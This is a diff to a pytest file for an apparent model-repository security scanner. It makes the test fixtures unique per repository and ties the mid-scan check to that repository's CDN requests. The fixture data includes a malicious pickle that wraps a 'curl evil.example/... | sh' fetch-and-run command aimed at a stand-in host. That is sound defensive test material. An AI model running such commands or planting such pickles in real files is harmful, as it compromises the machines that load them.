@@ -17,7 +17,7 @@ import pytest
 from django.utils import timezone
 
 from governance.celery import app
-from inventory.models import ModelVersion
+from inventory.models import ModelFile, ModelVersion
 from inventory.services import import_from_hub
 from scanning import services as scan_services
 from scanning.choices import ScanState, ScanTrigger
@@ -33,11 +33,13 @@ CDN_DELAY = 0.4  # seconds per LFS file read by the first worker: the scan takes
 
 
 def _scanned_repo(hub: HubServer, repo_id: str) -> ModelVersion:
-    files = {
-        f"model-{i:05d}-of-{WEIGHT_FILES:05d}.safetensors": safetensors_bytes({f"layer{i}.weight": ("F32", [64, 8])})
+    files = {  # contents unique to the repo: CDN requests (by sha256) tell whose scan is waiting on the Hub
+        f"model-{i:05d}-of-{WEIGHT_FILES:05d}.safetensors": safetensors_bytes(
+            {f"layer{i}.weight": ("F32", [64, 8])}, metadata={"repo": repo_id}
+        )
         for i in range(1, WEIGHT_FILES + 1)
     }
-    files["extra.bin"] = malicious_pickle_bytes("curl evil.example | sh")
+    files["extra.bin"] = malicious_pickle_bytes(f"curl evil.example/{repo_id} | sh")
     files["config.json"] = b'{"model_type": "bert"}'
     hub.add_repo(repo_id, files)
     version, created = import_from_hub(repo_id=repo_id)
@@ -51,10 +53,13 @@ def _start_scan(version: ModelVersion, hub: HubServer) -> ScanRun:
 
 
 def _mid_scan(run: ScanRun, hub: HubServer) -> bool:
-    """Some files recorded, more to come, and the worker waiting on the Hub (not inside a transaction)."""
+    """Some files recorded, more to come, and its worker waiting on the Hub (so not inside a transaction)."""
     run.refresh_from_db()
     assert run.state != ScanState.SUCCEEDED, "the scan finished before the fault could be injected"
-    in_flight = any(r.server == "cdn" and r.status == 0 for r in list(hub.requests))
+    blobs = {
+        f"/cdn/{sha}" for sha in ModelFile.objects.filter(version_id=run.version_id).values_list("sha256", flat=True)
+    }
+    in_flight = any(r.server == "cdn" and r.status == 0 and r.path in blobs for r in list(hub.requests))
     return run.state == ScanState.RUNNING and run.files_done >= 3 and in_flight
 
 
